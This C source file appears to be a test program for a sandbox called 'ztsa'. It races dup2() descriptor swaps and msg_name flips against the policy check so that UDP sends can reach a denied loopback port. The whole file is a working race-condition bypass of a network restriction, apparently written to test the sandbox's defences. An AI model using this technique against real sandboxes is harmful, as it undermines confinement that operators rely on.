/* The descriptor number a call names is looked up again by any call the kernel runs
   after the decider's check: a thread dup2()s a socket ztsa connected to the allowed
   port (a host socket) onto the number the main thread sends on, while the main thread
   sends to 127.0.0.1:DENIED, which is a server of the tree's own (bound in its own
   namespace: allowed to the tree's socket). A second round sends without a name while
   a third thread flips msg_name to the denied port. Usage: fd_swap ALLOWED DENIED N */
#include <arpa/inet.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int tree_sock, host_sock, number = 100;
static volatile int stop;
static struct msghdr msg;
static struct sockaddr_in denied;

static void *swap_fds(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(tree_sock, number);
        dup2(host_sock, number);
    }
    return NULL;
}

static void *flip_name(void *arg) {
    (void)arg;
    volatile struct msghdr *m = &msg;
    while (!stop) {
        m->msg_name = NULL;
        m->msg_namelen = 0;
        m->msg_name = &denied;
        m->msg_namelen = sizeof denied;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4)
        return 2;
    struct sockaddr_in allowed = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    denied = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    allowed.sin_addr.s_addr = denied.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int n = atoi(argv[3]);
    int own = socket(AF_INET, SOCK_DGRAM, 0); /* the tree's own server on the denied port */
    if (bind(own, (struct sockaddr *)&denied, sizeof denied) < 0)
        perror("bind own");
    tree_sock = socket(AF_INET, SOCK_DGRAM, 0);
    connect(tree_sock, (struct sockaddr *)&denied, sizeof denied); /* its own, nameless */
    host_sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (connect(host_sock, (struct sockaddr *)&allowed, sizeof allowed) < 0) {
        perror("connect allowed");
        return 1;
    }
    dup2(tree_sock, number);
    pthread_t a, b;
    pthread_create(&a, NULL, swap_fds, NULL);
    for (int i = 0; i < n; i++)
        sendto(number, "swap", 4, 0, (struct sockaddr *)&denied, sizeof denied);
    pthread_create(&b, NULL, flip_name, NULL);
    for (int i = 0; i < n; i++) {
        struct iovec v = {"name", 4};
        msg.msg_iov = &v;
        msg.msg_iovlen = 1;
        sendmsg(number, &msg, 0);
    }
    stop = 1;
    pthread_join(a, NULL);
    pthread_join(b, NULL);
    printf("done\n");
    return 0;
}
